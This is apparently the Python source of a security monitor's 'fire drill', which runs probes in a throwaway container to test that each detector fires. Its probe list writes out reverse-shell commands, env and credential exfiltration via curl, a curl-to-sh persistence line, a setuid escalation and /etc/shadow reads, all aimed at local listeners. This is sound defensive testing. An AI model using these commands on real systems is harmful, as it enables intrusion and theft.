"""The fire drill (`coi health --drill`, the dashboard's `f` key): start a throwaway container,
trigger one minimal, harmless probe per detector inside it as the code user, and report for
each whether the monitor detected it, with which rule and how fast (Falco's event-generator
method).

- The probes are DATA (`PROBES`): a new detector's probe is one more entry. A probe's command
  names what it needs as `{placeholders}` (the bridge address, a listener's port, a size taken
  from the monitor's thresholds); a probe whose placeholder has no value is skipped with the
  reason (a detector switched off, a port in use).
- Network safety: probes only ever reach the bridge address, where the drill opens its own
  listeners, and DNS queries go to the bridge's resolver for a name under the bridge's own
  domain, which dnsmasq answers locally and never forwards.
- The container is named `<prefix>drill-<hex>` (never a session slot's shape) and labelled
  `user.coi.drill`, so the monitor logs its threats instead of pausing or killing it
  (daemon.Responder.is_drill). It is deleted at the end, on errors and Ctrl-C too.
- Latency: from just before a probe starts to its threat record arriving on the monitor's
  event socket (`~/.coi/monitor.sock`).

Core logic: nothing here prints; progress goes to a callback.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import string
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

from coi_tui.config.settings import load_settings
from coi_tui.core.errors import CoiError
from coi_tui.core.paths import coi_home, home_tag
from coi_tui.incus.errors import IncusError
from coi_tui.monitor import control
from coi_tui.monitor.canary import remove_registry
from coi_tui.monitor.config import MonitorConfig, load_monitor_config
from coi_tui.monitor.daemon import DRILL_INFIX, DRILL_KEY
from coi_tui.monitor.events import LEVEL_RANK
from coi_tui.monitor.rules import SPAWN_LIVE_MIN, WEB_PORTS
from coi_tui.sessions.canary_hook import plant
from coi_tui.sessions.manager import SessionManager
from coi_tui.sessions.sudo_log_hook import install_sudo_log

if TYPE_CHECKING:
    from coi_tui.config.settings import Settings
    from coi_tui.incus import Incus

BEHAVIOURAL = frozenset(
    {"proc.revshell-socket-stdio", "proc.revshell-pipe-relay", "proc.revshell-pty-relay"}
)
DNS_LABEL_LIMIT = 63  # RFC 1035
# What a harmless probe may do at most (beyond, the probe is skipped and says why).
MAX_PROBE_PROCESSES = 4000
MAX_PROBE_READ_MB = 1024
MAX_PROBE_DNS_QUERIES = 2000
MAX_PROBE_UPLOAD_MB = 512
SCAN_PORTS = 20  # rules.ScanWatch: 15 ports of one host within 5 s
WATCH_TIMEOUT_SEC = 20.0  # the daemon lists containers once a second
ADDRESS_TIMEOUT_SEC = 60.0  # DHCP in a booting container
STALE_DRILL_SEC = 3600.0  # a drill container this old was left by a killed drill


@dataclass(frozen=True)
class Probe:
    """One detector's probe. `command` runs with `bash -c` in the drill container as the code
    user; `setup` (optional, same way, not timed) prepares what it needs and must raise
    nothing itself. It counts as detected when a threat with one of `rules` at `min_level` or
    above arrives within `timeout` seconds. A probe whose `tools` the image lacks is skipped."""

    detector: str
    name: str
    command: str
    rules: frozenset[str]
    min_level: str
    timeout: float = 10.0
    setup: str = ""
    tools: tuple[str, ...] = ()  # programs it needs beyond bash and coreutils

    def placeholders(self) -> set[str]:
        names: set[str] = set()
        for text in (self.setup, self.command):
            names |= {f for _, f, _, _ in string.Formatter().parse(text) if f}
        return names


PY_CONNECT = (
    "python3 -c 'import socket, sys; "
    "socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).close()' {gateway} {c2_port}"
)
# one UDP query (TXT) to the bridge resolver per name: PY_DNS_QUERY + " NAME..."
PY_DNS_QUERY = (
    "python3 -c 'import socket, struct, sys\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "for i, name in enumerate(sys.argv[2:]):\n"
    '    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))\n'
    '    question = labels + b"\\0" + struct.pack(">2H", 16, 1)\n'
    '    query = struct.pack(">6H", i, 256, 1, 0, 0, 0) + question\n'
    "    s.sendto(query, (sys.argv[1], 53))' {gateway}"
)
# A reverse shell no command-line rule can see: a script file connects, puts the socket on
# stdio and becomes `sh -i` (only the behavioural rules judge it).
PY_SOCKET_SHELL = """import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""
PY_READ_AND_HOLD = (
    'python3 -c \'import sys, time; f = open(sys.argv[1], "rb"); '
    'list(iter(lambda: f.read(1 << 20), b"")); time.sleep(30)\' {home}/drill-read.bin'
)
# forks that stay alive (a fork bomb's shape): python forks without exec, so the burst is
# fast enough even on a busy machine (a shell loop starting `sleep` was not, under load)
SLEEPERS = (
    "python3 -c 'import os, sys, time\n"
    "for _ in range(int(sys.argv[1])):\n"
    "    if os.fork() == 0:\n"
    "        time.sleep(30)\n"
    "        os._exit(0)\n"
    "time.sleep(30)' {count}"
)

PROBES: tuple[Probe, ...] = (
    Probe(
        "reverse shell (command line)",
        "bash-dev-tcp",
        "bash -i >& /dev/tcp/{gateway}/{shell_port} 0>&1",
        frozenset({"proc.dev-tcp"}) | BEHAVIOURAL,
        "critical",
    ),
    Probe(
        "reverse shell (behaviour)",
        "socket-on-stdio",
        "python3 {home}/.cache/drill_shell.py {gateway} {shell_port}",
        BEHAVIOURAL,
        "critical",
        setup="mkdir -p {home}/.cache && printf '%s' {shell_script} > {home}/.cache/drill_shell.py",
        tools=("python3",),
    ),
    Probe(
        "C2 port",
        "connect-c2-port",
        PY_CONNECT,
        frozenset({"net.c2-port"}),
        "warning",
        tools=("python3",),
    ),
    Probe("environment dump", "env", "env > /dev/null", frozenset({"cred.env-dump"}), "warning"),
    Probe(
        "secret search",
        "grep-secrets",
        "grep -rIl -i aws_secret_access_key {home} 2>/dev/null; true",
        frozenset({"cred.secret-search"}),
        "warning",
    ),
    Probe(
        "credential file",
        "read-ssh-key",
        "cat {home}/.ssh/id_ed25519 > /dev/null",
        frozenset({"cred.ssh-key", "file.ssh-key-read"}),
        "warning",
        setup="mkdir -p -m 700 {home}/.ssh && echo 'coi fire drill: not a key' > "
        "{home}/.ssh/id_ed25519",
    ),
    Probe(
        "DNS tunnelling (long label)",
        "long-random-label",
        PY_DNS_QUERY + " {dns_name}",
        frozenset({"dns.tunnel-label"}),
        "high",
        tools=("python3",),
    ),
    Probe(
        "DNS tunnelling (many names)",
        "random-names",
        PY_DNS_QUERY + " {dns_random_names}",
        frozenset({"dns.tunnel-volume"}),
        "high",
        tools=("python3",),
    ),
    Probe(
        "DNS query rate",
        "query-burst",
        PY_DNS_QUERY + " {dns_burst_names}",
        frozenset({"dns.rate"}),
        "warning",
        tools=("python3",),
    ),
    Probe(
        "large read",
        "read-file",
        PY_READ_AND_HOLD,
        frozenset({"fs.large-read-local", "fs.large-read"}),
        "info",
        setup="head -c {read_mb}M /dev/zero > {home}/drill-read.bin",
        tools=("python3",),
    ),
    Probe(
        "port scan",
        "connect-many-ports",
        "python3 -c 'import socket, sys\n"
        "for port in sys.argv[2:]:\n"
        "    s = socket.socket(); s.settimeout(1); s.connect_ex((sys.argv[1], int(port)))\n"
        "    s.close()' {gateway} {scan_ports}",
        frozenset({"net.port-scan"}),
        "high",
        tools=("python3",),
    ),
    Probe(
        "upload volume",
        "send-to-sink",
        "python3 -c 'import socket, sys, time\n"
        "s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)\n"
        "for _ in range(int(sys.argv[3])): s.sendall(bytes(1 << 20))\n"
        "time.sleep(30)' {gateway} {sink_port} {upload_mb}",
        frozenset({"net.exfil-volume"}),
        "high",
        tools=("python3",),
    ),
    Probe(
        "secrets to the network",
        "env-to-curl",
        "env | curl -sS --max-time 5 --data-binary @- http://{gateway}:{sink_port}/drill",
        frozenset({"exfil.secrets-to-network"}),
        "high",
        tools=("curl",),
    ),
    Probe(
        "decoded payload to a shell",
        "base64-to-sh",
        "echo ZWNobyBkcmlsbAo= | base64 -d | sh",  # runs `echo drill`
        frozenset({"proc.decode-to-shell"}),
        "warning",
    ),
    Probe(
        "crypto miner",
        "stratum-url",
        "/bin/true --url stratum+tcp://drill.invalid:3333",  # true ignores its arguments
        frozenset({"proc.miner"}),
        "critical",
    ),
    Probe(
        "persistence (start-up file)",
        "profile-payload",
        # ~/.profile: read by login shells only, and no probe starts one
        "echo 'curl -fsS http://{gateway}:{shell_port}/drill | sh' >> {home}/.profile",
        frozenset({"persist.shell-rc"}),
        "high",
    ),
    Probe(
        "sensitive file read",
        "read-shadow",
        "sudo -n cat /etc/shadow > /dev/null",
        frozenset({"file.shadow-read"}),
        "high",
        tools=("sudo",),
    ),
    Probe(
        "sensitive file write",
        "python-appends-bashrc",
        # no command line names the file: only the file watcher sees it (a command, `true`:
        # plain settings appended are only a WARNING)
        'python3 -c \'import os; open(os.path.expanduser("~/.bashrc"), "a").write("true\\n")\'',
        frozenset({"file.startup-write"}),
        "high",
        tools=("python3",),
    ),
    Probe(
        "privilege escalation",
        "planted-setuid-program",
        "/var/tmp/drill-suid 1",  # a setuid-root copy of sleep: becomes root, sleeps
        frozenset({"priv.setuid-root"}),
        "high",
        setup="sudo -n cp /bin/sleep /var/tmp/drill-suid && sudo -n chmod 4755 /var/tmp/drill-suid",
        tools=("sudo",),
    ),
    Probe(
        "failed sudo",
        "sudo-by-a-non-sudoer",
        "sudo -n -u nobody sudo -n true 2> /dev/null; true",
        frozenset({"auth.failed"}),
        "high",
        tools=("sudo",),
    ),
    Probe(
        "failed su",
        "su-without-password",
        "su -c true root < /dev/null 2> /dev/null; true",
        frozenset({"priv.su-failed"}),
        "high",
        tools=("su",),
    ),
    Probe(
        "canary opened",
        "read-decoy-aws-credentials",
        "cat {home}/.aws/credentials > /dev/null",
        frozenset({"canary.open"}),
        "high",
    ),
    Probe(
        "canary sent out",
        "post-decoy-aws-credentials",
        "curl -s --max-time 3 --data-binary @{home}/.aws/credentials "
        "http://{gateway}:{sink_port}/drill > /dev/null; true",
        frozenset({"canary.network"}),
        "critical",
        tools=("curl",),
    ),
    Probe(
        "rule pack (bundled)",
        "enumeration-script",
        # a process that lives: a millisecond's `chmod u+s` can exit before its command line
        # is read on a loaded host, and the drill would report the rule engine as broken
        "sh {home}/linpeas.sh",
        frozenset({"bundled.offensive-enumeration"}),
        "high",
        setup="printf 'sleep 2\\n' > {home}/linpeas.sh",
    ),
    Probe(
        "spawn storm",
        "fork-and-hold",
        SLEEPERS.replace("{count}", "{spawn_count}"),
        frozenset({"proc.spawn-storm"}),
        "high",
        tools=("python3",),
    ),
    Probe(
        "process count",
        "hold-processes",
        SLEEPERS.replace("{count}", "{process_count}"),
        frozenset({"proc.count"}),
        "high",
        tools=("python3",),
    ),
)


# ---------------------------------------------------------------------------- results
DETECTED, MISSED, SKIPPED = "detected", "missed", "skipped"


@dataclass
class ProbeResult:
    detector: str
    probe: str
    status: str  # detected | missed | skipped
    rule_id: str = ""
    level: str = ""
    latency_ms: float | None = None
    note: str = ""  # why skipped; what was seen instead of a detection

    def as_dict(self) -> dict[str, Any]:
        return {
            "detector": self.detector,
            "probe": self.probe,
            "status": self.status,
            "rule_id": self.rule_id,
            "level": self.level,
            "latency_ms": self.latency_ms,
            "note": self.note,
        }


@dataclass
class DrillReport:
    container: str
    image: str
    results: list[ProbeResult] = field(default_factory=list)
    duration_sec: float = 0.0

    @property
    def ok(self) -> bool:
        """Every probe that ran was detected (and at least one ran)."""
        ran = [r for r in self.results if r.status != SKIPPED]
        return bool(ran) and all(r.status == DETECTED for r in ran)

    def as_dict(self) -> dict[str, Any]:
        count = {s: sum(r.status == s for r in self.results) for s in (DETECTED, MISSED, SKIPPED)}
        return {
            "ok": self.ok,
            "container": self.container,
            "image": self.image,
            "duration_sec": round(self.duration_sec, 2),
            "probes": [r.as_dict() for r in self.results],
            "summary": count,
        }


def format_table(report: DrillReport) -> list[str]:
    """The report as text lines: one row per probe, the reasons for skipped and missed
    probes under it, then a verdict line."""
    header: tuple[str, ...] = ("DETECTOR", "PROBE", "DETECTED", "RULE", "LATENCY")
    rows: list[tuple[str, ...]] = [header]
    for r in report.results:
        detected = {DETECTED: "yes", MISSED: "no"}.get(r.status, "skipped")
        latency = f"{r.latency_ms:.0f} ms" if r.latency_ms is not None else "-"
        rows.append((r.detector, r.probe, detected, r.rule_id or "-", latency))
    widths = [max(len(row[i]) for row in rows) for i in range(len(header))]
    lines = [
        "  ".join(cell.ljust(w) for cell, w in zip(row, widths, strict=True)).rstrip()
        for row in rows
    ]
    for r in report.results:
        if r.status != DETECTED and r.note:
            lines.append(
                f"{r.detector}: {'skipped' if r.status == SKIPPED else 'missed'}: {r.note}"
            )
    ran = [r for r in report.results if r.status != SKIPPED]
    found = sum(r.status == DETECTED for r in ran)
    skipped = len(report.results) - len(ran)
    verdict = "PASS" if report.ok else "FAIL"
    tail = f", {skipped} skipped" if skipped else ""
    lines.append(f"{verdict}: {found} of {len(ran)} probes detected{tail}")
    return lines


# ---------------------------------------------------------------------------- parameters
def probe_values(
    config: MonitorConfig, gateway: str, dns_domain: str, home: str
) -> tuple[dict[str, str], dict[str, str]]:
    """(values, reasons): what the probes' placeholders become, and for each that has no
    value, why (the probe using it is skipped with that reason). Listener ports are added by
    the drill once it has bound them."""
    values: dict[str, str] = {"home": home, "shell_script": shell_quote(PY_SOCKET_SHELL)}
    reasons: dict[str, str] = {}
    if gateway:
        values["gateway"] = gateway
    else:
        reasons["gateway"] = "the bridge has no IPv4 address"
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"  # base32, as tunnels encode
    label_length = max(40, config.dns_label_max + 8)
    if config.dns_label_max >= DNS_LABEL_LIMIT or label_length > DNS_LABEL_LIMIT:
        reasons["dns_name"] = f"dns_label_max {config.dns_label_max} leaves no room under 63"
    else:
        label = "".join(secrets.choice(alphabet) for _ in range(label_length))
        values["dns_name"] = f"{label}.drill.{dns_domain}"
    # a tunnel keeping its labels short: many distinct random names under one domain
    # (rules.DnsWatch._volume: 30 names in a minute, 12 characters on average)
    short = min(16, config.dns_label_max)
    if short < 12:
        reasons["dns_random_names"] = f"dns_label_max {config.dns_label_max} is below 12"
    else:
        values["dns_random_names"] = " ".join(
            "".join(secrets.choice(alphabet) for _ in range(short)) + f".drill.{dns_domain}"
            for _ in range(40)
        )
    burst = config.dns_rate_per_min + 20
    if burst > MAX_PROBE_DNS_QUERIES:
        reasons["dns_burst_names"] = f"dns_rate_per_min {config.dns_rate_per_min} is too big"
    else:
        values["dns_burst_names"] = " ".join(f"www{i}.drill.{dns_domain}" for i in range(burst))
    rate = config.spawn_rate_per_sec
    if rate <= 0:
        reasons["spawn_count"] = "spawn_rate_per_sec is 0 (off)"
    else:
        count = max(SPAWN_LIVE_MIN, rate) + 100  # margin: some exit or start late
        if count > MAX_PROBE_PROCESSES:
            reasons["spawn_count"] = f"spawn_rate_per_sec {rate} needs over {count} processes"
        else:
            values["spawn_count"] = str(count)
    limit = config.process_count_threshold
    if limit <= 0:
        reasons["process_count"] = "process_count_threshold is 0 (off)"
    elif limit + 20 > MAX_PROBE_PROCESSES:
        reasons["process_count"] = f"process_count_threshold {limit} is above what a probe starts"
    else:
        values["process_count"] = str(limit + 20)
    upload_mb = int(config.exfil_threshold_mb) + 5
    if upload_mb > MAX_PROBE_UPLOAD_MB:
        reasons["upload_mb"] = f"exfil_threshold_mb {config.exfil_threshold_mb:g} is too big"
    else:
        values["upload_mb"] = str(upload_mb)
    read_mb = int(config.file_read_threshold_mb) + 16
    if read_mb > MAX_PROBE_READ_MB:
        reasons["read_mb"] = f"file_read_threshold_mb {config.file_read_threshold_mb:g} is too big"
    else:
        values["read_mb"] = str(read_mb)
    return values, reasons


def shell_quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def c2_port_order(ports: Sequence[int]) -> list[int]:
    """Configured C2 ports, those that are not also web ports first: a web port on the list is
    only a WARNING (rules.packet_threats), the others are CRITICAL."""
    valid = [p for p in dict.fromkeys(ports) if 0 < p < 65536]
    return [p for p in valid if p not in WEB_PORTS] + [p for p in valid if p in WEB_PORTS]


def skip_reason(probe: Probe, values: Mapping[str, str], reasons: Mapping[str, str]) -> str:
    for name in sorted(probe.placeholders()):
        if name not in values:
            return reasons.get(name, f"nothing provides {{{name}}}")
    return ""


# ---------------------------------------------------------------------------- listeners
class Listener:
    """A TCP listener on the bridge address that accepts and holds connections (a probe's
    reverse shell waits on it; closing them ends the shell)."""

    def __init__(self, address: str, port: int = 0, sink: bool = False) -> None:
        self.sink = sink  # read and discard what arrives (an upload probe's target)
        self.server = socket.socket()
        try:
            self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            self.server.bind((address, port))
            self.server.listen(16)
        except OSError:
            self.server.close()
            raise
        self.port = int(self.server.getsockname()[1])
        self.conns: list[socket.socket] = []
        self.lock = threading.Lock()
        threading.Thread(target=self._serve, daemon=True, name="drill-listener").start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with self.lock:
                self.conns.append(conn)
            if self.sink:
                threading.Thread(target=self._drain, args=(conn,), daemon=True).start()

    @staticmethod
    def _drain(conn: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while conn.recv(1 << 16):
                pass

    def drop_connections(self) -> None:
        with self.lock:
            conns, self.conns = self.conns, []
        for conn in conns:
            conn.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.server.shutdown(socket.SHUT_RDWR)  # wakes accept()
        self.server.close()
        self.drop_connections()


def open_c2_listener(gateway: str, ports: Sequence[int]) -> tuple[Listener | None, str]:
    """A listener on the first configured C2 port free on the bridge address, or why none."""
    order = c2_port_order(ports)
    if not order:
        return None, "no C2 port configured (c2_ports is empty)"
    for port in order:
        try:
            return Listener(gateway, port), ""
        except OSError:
            continue
    return None, "every configured C2 port is in use on the bridge address"


# ---------------------------------------------------------------------------- events
class MonitorEvents:
    """A client of the monitor's event socket (newline-delimited JSON, see ARCHITECTURE):
    reads in a thread, stamps each message with its arrival (monotonic), lets the drill wait
    on what it has seen."""

    def __init__(self, path: Path) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            self.sock.connect(str(path))
        except PermissionError:
            self.sock.close()
            raise CoiError(
                f"permission denied on the threat monitor's socket {path}: run the drill as the "
                "user whose COI home it is, or as root"
            ) from None
        except OSError as exc:
            self.sock.close()
            raise CoiError(f"cannot connect to the threat monitor at {path}: {exc}") from None
        self.messages: list[dict[str, Any]] = []
        self.cond = threading.Condition()
        self.closed = False
        threading.Thread(target=self._read, daemon=True, name="drill-events").start()

    def _read(self) -> None:
        buffer = b""
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                with self.cond:
                    self.closed = True
                    self.cond.notify_all()
                return
            *lines, buffer = (buffer + data).split(b"\n")
            now = time.monotonic()
            with self.cond:
                for line in lines:
                    with contextlib.suppress(ValueError):
                        message = json.loads(line)
                        if isinstance(message, dict):
                            self.messages.append({**message, "_received": now})
                self.cond.notify_all()

    def wait(
        self, match: Callable[[dict[str, Any]], bool], timeout: float, since: int = 0
    ) -> dict[str, Any] | None:
        """The first message from index `since` on that matches, waiting up to `timeout`."""
        deadline = time.monotonic() + timeout
        with self.cond:
            while True:
                for message in self.messages[since:]:
                    if match(message):
                        return message
                left = deadline - time.monotonic()
                if left <= 0 or self.closed:
                    return None
                self.cond.wait(left)

    def mark(self) -> int:
        with self.cond:
            return len(self.messages)

    def threats(self, container: str, since: int = 0) -> list[dict[str, Any]]:
        with self.cond:
            return [
                m
                for m in self.messages[since:]
                if m.get("type") == "threat" and m.get("container") == container
            ]

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


# ---------------------------------------------------------------------------- the drill
Progress = Callable[[str], None]


def drill_name(prefix: str) -> str:
    return f"{prefix}{DRILL_INFIX}{uuid.uuid4().hex[:8]}"


class Drill:
    """One run: `run()` returns the report; the container is gone when it returns or
    raises."""

    def __init__(
        self,
        settings: Settings,
        incus: Incus,
        config: MonitorConfig,
        home: Path,
        progress: Progress = lambda line: None,
        probes: Sequence[Probe] = PROBES,
    ) -> None:
        self.settings = settings
        self.incus = incus
        self.config = config
        self.home = home
        self.progress = progress
        self.probes = tuple(probes)
        self.name = drill_name(settings.container_prefix)
        self.code_home = f"/home/{settings.code_user}"
        self.missing: set[str] = set()  # probe tools the image lacks

    def run(self) -> DrillReport:

        started = time.monotonic()
        self.incus.require_image(self.settings.image)  # Incus down or image missing: one line
        network = self.incus.get_network(self.settings.bridge)
        if network is None:
            raise CoiError(f"network '{self.settings.bridge}' not found: run 'coi setup'")
        net_config = network.get("config") or {}
        gateway = str(net_config.get("ipv4.address", "")).split("/")[0]
        if gateway in ("", "none", "auto"):
            gateway = ""
        dns_domain = str(net_config.get("dns.domain") or "incus")
        self.remove_stale()
        self.progress("starting the threat monitor")
        control.start(self.home, use_sudo=self.settings.use_sudo)
        events = MonitorEvents(control.socket_path(self.home))
        listeners: list[Listener] = []
        held: list[socket.socket] = []
        report = DrillReport(self.name, self.settings.image)
        try:
            values, reasons = probe_values(self.config, gateway, dns_domain, self.code_home)
            if gateway:
                shell, sink = Listener(gateway), Listener(gateway, sink=True)
                listeners += [shell, sink]
                values["shell_port"], values["sink_port"] = str(shell.port), str(sink.port)
                c2, why = open_c2_listener(gateway, self.config.c2_ports)
                if c2 is None:
                    reasons["c2_port"] = why
                else:
                    listeners.append(c2)
                    values["c2_port"] = str(c2.port)
                # ports nothing listens on (bound here, so no host service answers): a scan
                # gets refused at once
                for _ in range(SCAN_PORTS):
                    held.append(socket.socket())
                    held[-1].bind((gateway, 0))
                values["scan_ports"] = " ".join(str(h.getsockname()[1]) for h in held)
            else:
                for name in ("shell_port", "sink_port", "c2_port", "scan_ports"):
                    reasons[name] = reasons["gateway"]
            with self.container(events, needs_address=bool(gateway)):
                self.missing = self.missing_tools()
                for probe in self.probes:
                    result = self.run_probe(probe, values, reasons, events, listeners)
                    report.results.append(result)
                    self.progress(progress_line(result))
        finally:
            for listener in listeners:
                listener.close()
            for port in held:
                port.close()
            events.close()
        report.duration_sec = time.monotonic() - started
        return report

    def remove_stale(self) -> None:
        """Drill containers of this COI home left by a drill that was killed (SIGKILL, power
        loss) before it could delete its own: older than STALE_DRILL_SEC, so a drill running
        in parallel keeps its container."""

        tag = home_tag(self.home)
        now = datetime.now(UTC)
        for instance in self.incus.list_instances(self.settings.container_prefix + DRILL_INFIX):
            if (
                instance.config.get(DRILL_KEY) != "true"
                or instance.config.get("user.coi.home") != tag
            ):
                continue
            try:
                created = datetime.fromisoformat(instance.created_at.replace("Z", "+00:00"))
            except ValueError:
                continue
            if (now - created).total_seconds() > STALE_DRILL_SEC:
                self.progress(f"deleting {instance.name}, left by an earlier drill")
                with contextlib.suppress(IncusError):
                    self.incus.delete_instance(instance.name, force=True)

    @contextlib.contextmanager
    def container(self, events: MonitorEvents, needs_address: bool) -> Iterator[None]:
        """The drill container, running and watched by the monitor; deleted on the way out
        whatever happens (errors, Ctrl-C)."""

        devices: dict[str, dict[str, str]] = {
            "eth0": {"type": "nic", "network": self.settings.bridge, "name": "eth0"}
        }
        pool = SessionManager(self.incus, self.settings, self.progress).storage_pool()
        if pool:
            devices["root"] = {"type": "disk", "path": "/", "pool": pool}
        config = {
            "user.coi.home": home_tag(self.home),  # the monitor of this COI home watches it
            DRILL_KEY: "true",
            "security.guestapi": "false",
            "security.idmap.isolated": "true",
        }
        self.progress(f"starting drill container {self.name} from {self.settings.image}")
        mark = events.mark()
        try:
            self.incus.create_instance(
                self.name,
                self.settings.image,
                config=config,
                devices=devices,
                start=True,
            )
            install_sudo_log(self.incus, self.name)  # as a session's hook does: failed sudo
            plant(self.incus, self.name, ["aws"], uid=self.settings.code_uid, home=self.home)
            watched = events.wait(
                lambda m: m.get("type") == "watch" and m.get("container") == self.name,
                WATCH_TIMEOUT_SEC,
                mark,
            )
            if watched is None:
                raise CoiError(
                    f"the threat monitor did not start watching {self.name} within "
                    f"{WATCH_TIMEOUT_SEC:g}s: see {self.home / 'logs' / 'monitor.log'}"
                )
            if needs_address:
                self.wait_for_address()
            yield
        finally:
            self.progress(f"deleting {self.name}")
            with contextlib.suppress(Exception):
                self.incus.delete_instance(self.name, force=True)
            with contextlib.suppress(OSError):
                remove_registry(self.home, self.name)

    def missing_tools(self) -> set[str]:
        """The probes' tools (names from PROBES, never from the container) the image lacks."""
        wanted = sorted({tool for probe in self.probes for tool in probe.tools})
        if not wanted:
            return set()
        script = 'for t in "$@"; do command -v "$t" > /dev/null || echo "$t"; done'
        done = self.incus.exec_capture(
            self.name,
            ["sh", "-c", script, "sh", *wanted],
            user=self.settings.code_uid,
            env=self.exec_env(),
            timeout=30,
        )
        return set(done.stdout.split()) & set(wanted)

    def wait_for_address(self) -> None:
        deadline = time.monotonic() + ADDRESS_TIMEOUT_SEC
        while not self.incus.get_instance(self.name, with_state=True).ipv4:
            if time.monotonic() > deadline:
                raise CoiError(
                    f"{self.name} got no IPv4 address on {self.settings.bridge} within "
                    f"{ADDRESS_TIMEOUT_SEC:g}s (is DHCP on the bridge working?)"
                )
            time.sleep(0.1)

    def exec_env(self) -> dict[str, str]:
        return {
            "HOME": self.code_home,
            "USER": self.settings.code_user,
            "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "LANG": "C.UTF-8",
        }

    def run_probe(
        self,
        probe: Probe,
        values: Mapping[str, str],
        reasons: Mapping[str, str],
        events: MonitorEvents,
        listeners: Sequence[Listener],
    ) -> ProbeResult:
        result = ProbeResult(probe.detector, probe.name, SKIPPED)
        result.note = skip_reason(probe, values, reasons)
        absent = [tool for tool in probe.tools if tool in self.missing]
        if absent and not result.note:
            result.note = f"{', '.join(absent)} not in the image"
        if result.note:
            return result
        try:
            return self.probe(probe, values, events, listeners, result)
        except IncusError as exc:
            raise self.explain(exc) from None

    def probe(
        self,
        probe: Probe,
        values: Mapping[str, str],
        events: MonitorEvents,
        listeners: Sequence[Listener],
        result: ProbeResult,
    ) -> ProbeResult:
        uid = self.settings.code_uid
        if probe.setup:
            done = self.incus.exec_capture(
                self.name,
                ["bash", "-c", probe.setup.format(**values)],
                user=uid,
                env=self.exec_env(),
                cwd=self.code_home,
                timeout=60,
            )
            if done.exit_code != 0:
                result.status = MISSED
                result.note = f"setup failed: {last_line(done.stderr) or done.exit_code}"
                return result
        mark = events.mark()
        wanted = LEVEL_RANK.get(probe.min_level, 0)

        def detected(message: dict[str, Any]) -> bool:
            return (
                message.get("type") == "threat"
                and message.get("container") == self.name
                and message.get("rule_id") in probe.rules
                and LEVEL_RANK.get(str(message.get("level")), -1) >= wanted
            )

        started = time.monotonic()
        operation = self.start_exec(["bash", "-c", probe.command.format(**values)], uid)
        record = events.wait(detected, probe.timeout, mark)
        if record is not None:
            result.status = DETECTED
            result.rule_id = str(record.get("rule_id", ""))
            result.level = str(record.get("level", ""))
            result.latency_ms = round((float(record["_received"]) - started) * 1000, 1)
        else:
            result.status = MISSED
            seen = sorted({str(t.get("rule_id")) for t in events.threats(self.name, mark)})
            result.note = f"no {'/'.join(sorted(probe.rules))} within {probe.timeout:g}s" + (
                f"; seen: {', '.join(seen)}" if seen else ""
            )
            if events.closed:
                result.note += "; the monitor closed its event socket (did it stop?)"
        # end the probe: its connections, then every process of the code user
        for listener in listeners:
            listener.drop_connections()
        self.incus.exec_capture(
            self.name, ["sh", "-c", "kill -9 -1"], user=uid, env=self.exec_env(), timeout=30
        )
        if result.status == MISSED:
            error = self.exec_error(operation)
            if error:
                result.note += f"; the probe said: {error}"
        return result

    def explain(self, exc: IncusError) -> CoiError:
        """An exec into the drill container failed: most likely the monitor paused or killed
        it (a daemon started by a coi without the drill exemption is still running)."""
        try:
            status = self.incus.status(self.name)
        except IncusError:
            status = "Gone"
        if status in ("Frozen", "Gone"):
            done = "paused" if status == "Frozen" else "deleted"
            return CoiError(
                f"the threat monitor {done} the drill container instead of logging its threats "
                "(a daemon started by an older coi?): stop it with 'coi monitor --stop' and run "
                "the drill again"
            )
        return exc

    def start_exec(self, argv: list[str], uid: int) -> str:
        """Start a command in the container without waiting for it; the operation's path."""
        body = {
            "command": argv,
            "environment": self.exec_env(),
            "wait-for-websocket": False,
            "interactive": False,
            "record-output": True,
            "user": uid,
            "group": uid,
            "cwd": self.code_home,
        }
        started = self.incus.request(
            "POST", f"/1.0/instances/{self.name}/exec", body=body, wait=False
        )
        return str(started.get("id", "")) if isinstance(started, dict) else ""

    def exec_error(self, operation: str) -> str:
        """The last line a missed probe wrote to stderr (it may have failed to run at all)."""
        if not operation:
            return ""
        try:
            done = self.incus.request(
                "GET", f"/1.0/operations/{operation}/wait", params={"timeout": 5}
            )
            logs = (done.get("metadata") or {}).get("output") or {}
            if "2" not in logs:
                return ""
            return last_line(self.incus.request("GET", logs["2"], raw=True).content.decode())
        except Exception:  # a diagnosis only: the missed probe is reported either way
            return ""


def last_line(text: str) -> str:
    lines = [line.strip() for line in text.strip().splitlines() if line.strip()]
    return lines[-1][:200] if lines else ""


def progress_line(result: ProbeResult) -> str:
    if result.status == DETECTED:
        return (
            f"  {result.detector}: detected ({result.rule_id}, {result.level}) "
            f"in {result.latency_ms:.0f} ms"
        )
    if result.status == SKIPPED:
        return f"  {result.detector}: skipped ({result.note})"
    return f"  {result.detector}: NOT detected ({result.note})"


def run_drill(
    settings: Settings,
    incus: Incus,
    progress: Progress = lambda line: None,
    home: Path | None = None,
    probes: Sequence[Probe] = PROBES,
) -> DrillReport:
    """Run the fire drill for this COI home with the monitor's configuration (the thresholds
    the daemon uses: the main config read as the daemon reads it)."""
    home = home or coi_home()
